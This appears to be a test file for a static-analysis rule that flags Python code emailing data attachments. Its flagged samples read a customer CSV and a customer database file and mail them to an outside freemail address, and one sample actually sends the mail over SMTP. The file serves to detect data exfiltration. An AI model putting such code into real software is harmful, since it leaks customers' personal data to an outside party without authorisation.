"""The table is made in one function and mailed in another."""
import smtplib
from email.message import EmailMessage

import pandas as pd


def export():
    return pd.read_csv("customers.csv").to_csv(index=False)


def mail(text):
    message = EmailMessage()
    message["To"] = "x@freemail.example"
    # ruleid: mail-with-data-attachment
    message.add_attachment(text.encode(), maintype="text", subtype="csv")
    smtplib.SMTP("smtp.shop.example").send_message(message)


mail(export())


class Dump:
    def __init__(self):
        with open("customers.db", "rb") as source:
            self.content = source.read()

    def send(self):
        message = EmailMessage()
        message["To"] = "x@freemail.example"
        # ruleid: mail-with-data-attachment
        message.add_attachment(self.content, maintype="application", subtype="octet-stream")


def note():
    message = EmailMessage()
    message["To"] = "x@freemail.example"
    # ok: mail-with-data-attachment
    message.add_attachment(b"done", maintype="text", subtype="plain")
